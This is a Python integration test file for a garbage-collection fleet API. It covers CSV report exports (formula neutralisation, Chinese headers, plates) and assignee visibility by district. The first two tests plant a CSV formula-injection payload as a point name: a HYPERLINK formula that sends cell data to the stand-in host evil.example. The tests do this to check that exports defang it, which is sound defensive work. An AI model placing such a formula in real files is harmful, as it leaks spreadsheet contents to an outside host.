"""CSV exports over the API: a point name written as a formula reaches the sheet as text."""

from __future__ import annotations

import csv
import io

import psycopg
from fastapi.testclient import TestClient

from fleet.config import Settings
from fleet.spreadsheet import FORMULA_STARTS
from tests.integration.web.conftest import Users
from tests.unit.alerts.tracks import DAY

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


def test_missed_csv_neutralises_a_formula_point_name(
    client: TestClient, users: Users, supervised_day: int, web_settings: Settings
) -> None:
    with psycopg.connect(web_settings.storage.database_dsn(), autocommit=True) as conn:
        conn.execute("UPDATE collection_point SET name = %s WHERE point_id = 'P4'", (EVIL_NAME,))
    found = 0
    for report in ("missed", "clearance", "closure", "week", "month"):
        exported = client.get(
            f"/api/v1/reports/{report}.csv",
            params={"date_from": DAY.isoformat()} if report not in ("week", "month") else {},
            headers=users.headers("viewer"),
        )
        assert exported.status_code == 200, exported.text
        table = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
        cells = [cell for row in table for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], report
        found += cells.count("'" + EVIL_NAME)
    assert found >= 1  # the missed report names P4


def test_chinese_exports_have_chinese_headers_words_local_times_and_plates(
    client: TestClient, users: Users, supervised_day: int, web_settings: Settings
) -> None:
    """`lang=zh`: the headers Excel users read, codes as words, local times, the plate
    beside the truck id — and a formula name still neutralised."""
    with psycopg.connect(web_settings.storage.database_dsn(), autocommit=True) as conn:
        conn.execute("UPDATE collection_point SET name = %s WHERE point_id = 'P4'", (EVIL_NAME,))
    exported = client.get(
        "/api/v1/reports/missed.csv",
        params={"date_from": DAY.isoformat(), "lang": "zh"},
        headers=users.headers("viewer"),
    )
    assert exported.status_code == 200, exported.text
    assert exported.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
    assert list(rows[0])[:5] == ["作业日期", "区域", "收集点编号", "收集点名称", "垃圾类别"]
    by_point = {r["收集点编号"]: r for r in rows}
    assert by_point["P4"]["收集点名称"] == "'" + EVIL_NAME
    assert by_point["P4"]["计划车辆"] == "皖A00002" and by_point["P4"]["车辆编号"] == "T2"
    assert by_point["P4"]["状态"] == "漏收" and by_point["P4"]["原因"] == "未到达收集点"
    assert by_point["P4"]["收运时限"] == f"{DAY.isoformat()} 10:00"  # Asia/Shanghai
    assert by_point["P5"]["计划车辆"] == ""  # left out of the plan: no truck
    for report in ("clearance", "closure", "week"):
        text = client.get(
            f"/api/v1/reports/{report}.csv",
            params={"date_from": DAY.isoformat(), "lang": "zh"},
            headers=users.headers("viewer"),
        ).content.decode("utf-8-sig")
        header = text.splitlines()[0]
        assert not any(c.isascii() and c.isalpha() for c in header), (report, header)


def test_assignees_are_the_case_workers_a_caller_shares_a_district_with(
    client: TestClient, users: Users
) -> None:
    """Admins, supervisors and dispatchers, active, of the caller's districts (or of
    every district); never viewers, deactivated users, or users of other districts."""
    from fleet.auth.models import Role

    users.add("south_supervisor", Role.supervisor, ("south",))
    users.add("gone", Role.supervisor)
    client.patch(
        f"/api/v1/users/{users.ids['gone']}", json={"active": False}, headers=users.headers("admin")
    ).raise_for_status()
    names = lambda who, **params: {  # noqa: E731
        a["username"]
        for a in client.get("/api/v1/assignees", params=params, headers=users.headers(who)).json()
    }
    everyone = names("supervisor")
    assert {"admin", "dispatcher", "supervisor", "north_dispatcher", "south_supervisor"} <= everyone
    assert not everyone & {"viewer", "north_viewer", "gone"}
    north = names("north_dispatcher")
    assert "north_dispatcher" in north and "supervisor" in north
    assert "south_supervisor" not in north
    assert names("north_dispatcher", district_id="south") == set()
    assert names("supervisor", district_id="south") >= {"south_supervisor", "supervisor"}
    refused = client.get("/api/v1/assignees", headers=users.headers("viewer"))
    assert refused.status_code == 403


def test_clearance_csv_by_truck_names_trucks_by_plate(
    client: TestClient, users: Users, supervised_day: int
) -> None:
    """By truck, `group` holds the plate and the id stands beside it, in both languages;
    in Chinese the headers are Chinese and the points no truck was planned for say so.
    By stream, the Chinese export names the streams in words."""

    def export(lang: str, by: str) -> list[dict[str, str]]:
        response = client.get(
            "/api/v1/reports/clearance.csv",
            params={"date_from": DAY.isoformat(), "by": by, "lang": lang},
            headers=users.headers("viewer"),
        )
        assert response.status_code == 200, response.text
        return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))

    english = {r["group"]: r for r in export("en", "truck")}
    assert {"皖A00001", "皖A00002", "not planned"} <= set(english)
    assert english["皖A00002"]["truck_id"] == "T2" and english["not planned"]["truck_id"] == ""
    assert not {"T1", "T2"} & set(english)
    chinese = {r["车辆"]: r for r in export("zh", "truck")}
    assert {"皖A00001", "皖A00002", "未排入计划"} <= set(chinese)
    assert chinese["皖A00001"]["车辆编号"] == "T1"
    assert chinese["皖A00001"]["应收"] == english["皖A00001"]["due"]
    streams = {r["分组"] for r in export("zh", "stream")}
    assert streams and streams <= {"其他垃圾", "厨余垃圾", "可回收物", "有害垃圾", "混合垃圾"}
